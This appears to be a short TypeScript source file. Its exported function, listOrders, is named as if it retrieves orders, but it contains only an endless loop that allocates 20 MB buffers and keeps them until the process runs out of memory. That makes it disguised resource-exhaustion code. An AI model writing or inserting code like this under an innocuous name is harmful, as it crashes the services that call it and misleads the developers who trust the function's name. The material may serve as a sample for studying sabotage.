export function listOrders(): void {
  const all: Buffer[] = [];
  for (;;) all.push(Buffer.alloc(20e6, 1));
}
